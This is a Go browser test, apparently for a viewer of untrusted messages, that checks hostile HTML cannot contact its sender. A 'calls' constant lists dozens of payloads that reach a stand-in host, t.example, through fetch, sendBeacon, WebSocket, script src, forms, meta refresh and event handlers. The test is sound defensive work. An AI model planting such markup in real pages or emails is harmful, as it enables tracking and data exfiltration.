package web

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/debugger"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// tracker is the sender's server: it counts who comes, by the number of the payload in the path.
type tracker struct {
	*httptest.Server
	mu        sync.Mutex
	hits      map[int][]string
	connected int // connections, also those without a request (preconnect)
}

func newTracker(t *testing.T) *tracker {
	tr := &tracker{hits: map[int][]string{}}
	tr.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "no-store")
		rest := strings.TrimPrefix(r.URL.Path, "/p/")
		number, err := strconv.Atoi(rest[:len(rest)-len(strings.TrimLeft(rest, "0123456789"))])
		if err != nil {
			number = -1
		}
		tr.mu.Lock()
		defer tr.mu.Unlock()
		tr.hits[number] = append(tr.hits[number], r.Method+" "+r.URL.Path)
	}))
	tr.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			tr.mu.Lock()
			tr.connected++
			tr.mu.Unlock()
		}
	}
	tr.Start()
	t.Cleanup(tr.Close)
	return tr
}

// taken answers what was counted since the last time.
func (tr *tracker) taken() (hits map[int][]string, connected int) {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	hits, connected = tr.hits, tr.connected
	tr.hits, tr.connected = map[int][]string{}, 0
	return hits, connected
}

var (
	outsideHost = regexp.MustCompile(`(?i)(https?:)?//([a-z0-9-]+\.)+[a-z]{2,}(:[0-9]+)?\b`)
	dialogCall  = regexp.MustCompile(`\b(alert|confirm|prompt)\b`)
)

// aim points a payload at the tracker and has its script tell the console, which a sandbox cannot
// swallow as it does with dialogs. Names of XML stay: they are never loaded.
func (tr *tracker) aim(number int, markup string) string {
	markup = outsideHost.ReplaceAllStringFunc(markup, func(host string) string {
		if strings.Contains(host, "w3.org") {
			return host
		}
		return tr.URL + "/p/" + strconv.Itoa(number)
	})
	return "Guten Tag " + dialogCall.ReplaceAllString(markup, "console.error") // without anything to read there would be no frame
}

// watch notes what a hostile document did in the browser, beside what the tracker counts.
type watch struct {
	b       *browser
	ran     []string                     // scripts that ran
	left    map[network.RequestID]string // requests to others that the policy has not stopped
	scripts []string                     // scripts that were read for running and are not ours
}

func newWatch(b *browser) *watch {
	w := &watch{b: b, left: map[network.RequestID]string{}}
	must(b.t, chromedp.Listen(b.ctx, w.note))
	call(b, page.Enable, page.EnableParams{})
	call(b, debugger.Enable, debugger.EnableParams{})
	call(b, debugger.SetSkipAllPauses, debugger.SetSkipAllPausesParams{Skip: true})
	return w
}

func (w *watch) note(event any) {
	w.b.mu.Lock()
	defer w.b.mu.Unlock()
	switch e := event.(type) {
	case *runtime.EventConsoleAPICalled:
		if at := topmost(e.StackTrace); !w.ours(at) {
			w.ran = append(w.ran, "console."+string(e.Type)+" in "+at)
		}
	case *runtime.EventExceptionThrown:
		at := e.ExceptionDetails.URL
		if at == "" {
			at = topmost(e.ExceptionDetails.StackTrace)
		}
		if !w.ours(at) {
			w.ran = append(w.ran, "exception in "+at)
		}
	case *page.EventJavascriptDialogOpening:
		w.ran = append(w.ran, "dialog in "+e.URL)
		go chromedp.Call(w.b.ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
	case *debugger.EventScriptParsed:
		if e.URL != "" && !w.ours(e.URL) && !strings.HasPrefix(e.URL, "chrome-error:") { // the test's own have no address; Chromium's page about what it blocked has one
			w.scripts = append(w.scripts, fmt.Sprintf("%s:%d", e.URL, e.StartLine))
		}
	case *network.EventRequestWillBeSent:
		for _, own := range []string{w.b.site + "/", "data:", "blob:", "about:", "chrome-error:"} {
			if strings.HasPrefix(e.Request.URL, own) {
				return
			}
		}
		w.left[e.RequestID] = e.Request.Method + " " + e.Request.URL
	case *network.EventLoadingFailed:
		if e.BlockedReason != "" {
			delete(w.left, e.RequestID)
		}
	}
}

// topmost is the address of the script that was running.
func topmost(trace *runtime.StackTrace) string {
	if trace == nil || len(trace.CallFrames) == 0 {
		return ""
	}
	return trace.CallFrames[0].URL
}

// ours says whether a script is one of the pages' own.
func (w *watch) ours(url string) bool { return strings.HasPrefix(url, w.b.site+"/static/") }

// taken answers what was noted since the last time.
func (w *watch) taken() (ran, scripts, left []string) {
	w.b.mu.Lock()
	defer w.b.mu.Unlock()
	for _, request := range w.left {
		left = append(left, request)
	}
	ran, scripts = w.ran, w.scripts
	w.ran, w.scripts, w.left, w.b.wrong = nil, nil, map[network.RequestID]string{}, nil
	return ran, scripts, left
}

// poke does to every element of a document what a person might, and calls its handlers, but follows
// no link to another host: that is the person's own wish.
const poke = `const poke = (doc) => { for (const e of doc.querySelectorAll("*")) {
  for (const kind of ["load", "error", "begin", "focus", "blur", "mouseover", "mouseout", "mousemove", "mousedown", "mouseup", "dragstart", "keydown", "input", "change", "scroll", "toggle", "submit", "propertychange", "animationstart"])
    e.dispatchEvent(new Event(kind));
  const link = e.closest("a[href]");
  if (!link || /^\s*(javascript|data):/i.test(link.protocol || link.href.baseVal || "")) e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
} };`

// pokeFrames does it to all frames that hold a message.
const pokeFrames = poke + `document.querySelectorAll("iframe.paper-frame").forEach(f => { if (f.contentDocument) poke(f.contentDocument); });`

// settle gives what a document still wants to do the time to be done; nothing tells of a thing that
// does not happen. The control shows that it is long enough.
const settle = `new Promise(done => setTimeout(() => requestAnimationFrame(() => setTimeout(done, 50)), 50))`

// calls are ways for a document to call its sender, one a line, beside those of the corpus.
const calls = `
<img srcset="https://t.example/a 1x">
<picture><source srcset="https://t.example/a"><img alt="x"></picture>
<body background="https://t.example/a">x
<table background="https://t.example/a"><tr><td background="https://t.example/b">x</table>
<style>p { background: image-set("https://t.example/a" 1x) }</style><p>x
<style>:root { --u: url(https://t.example/a) } p { background: var(--u) }</style><p>x
<style>@font-face { font-family: f; src: url(https://t.example/a) } p { font-family: f }</style><p>x
<style>@import url(https://t.example/a);</style>x
<link rel="stylesheet" href="https://t.example/a">x
<p style="border-image: url(https://t.example/a); cursor: url(https://t.example/b), auto">x
<p style="background:url(https://t.example/a">x
<ul style="list-style-image:url(https://t.example/a)"><li>x</ul>
<style>p::after { content: url(https://t.example/a) }</style><p>x
<style>p { mask-image: url(https://t.example/a); filter: url(https://t.example/b#f) }</style><p>x
<svg><image href="https://t.example/a" width="9" height="9"/><use href="https://t.example/b#x"/></svg>x
<svg><rect fill="url(https://t.example/a#x)" width="9" height="9"/></svg>x
<svg><image width="9" height="9"><set attributeName="href" to="https://t.example/a"/></image></svg>x
<svg><image width="9" height="9"><animate attributeName="href" values="https://t.example/a" dur="1s"/></image></svg>x
<video src="https://t.example/a" autoplay></video><audio src="https://t.example/b" autoplay></audio>x
<video><track default src="https://t.example/a"><source src="https://t.example/b"></video>x
<object data="https://t.example/a" type="text/html"></object>x
<embed src="https://t.example/a" type="text/html">x
<iframe src="https://t.example/a"></iframe>x
<iframe srcdoc="<img src=https://t.example/a>"></iframe>x
<frameset><frame src="https://t.example/a"></frameset>
<link rel="preload" as="image" href="https://t.example/a"><link rel="prefetch" href="https://t.example/b">x
<link rel="modulepreload" href="https://t.example/a"><link rel="icon" href="https://t.example/b">x
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://t.example/a"]}]}</script>x
<script src="https://t.example/a"></script>x
<script>fetch("https://t.example/a", {mode: "no-cors"}); navigator.sendBeacon("https://t.example/b")</script>x
<script>new WebSocket("ws:" + "https://t.example/a".slice(5)); new EventSource("https://t.example/b")</script>x
<script>window.open("https://t.example/a"); top.location = "https://t.example/b"</script>x
<base href="https://t.example/"><img src="a">x
<meta http-equiv="refresh" content="0;url=https://t.example/a">x
<meta http-equiv="Content-Security-Policy" content="report-uri https://t.example/a; img-src 'none'"><img src="data:,x">x
<form action="https://t.example/a"><button>x</button></form>
<form action="https://t.example/a" target="_top"><input type="submit" value="x"></form>
<form action="https://t.example/a" target="_blank" method="post"><input name="q"><button autofocus>x</button></form>
<form id="f"></form><button form="f" formaction="https://t.example/a">x</button>
<input type="image" src="https://t.example/a" alt="x">
<a ping="https://t.example/a" href="javascript:void 0">x</a>
<a href="javascript:fetch('https://t.example/a', {mode: 'no-cors'})" target="_blank" rel="opener">x</a>
<math><maction actiontype="toggle" href="https://t.example/a"><mtext>x</mtext></maction></math>
<details open ontoggle="fetch('https://t.example/a', {mode: 'no-cors'})"><summary>x</summary></details>
<input autofocus onfocus="fetch('https://t.example/a', {mode: 'no-cors'})">x
<img src="x" onerror="location = 'https://t.example/a'">x
`
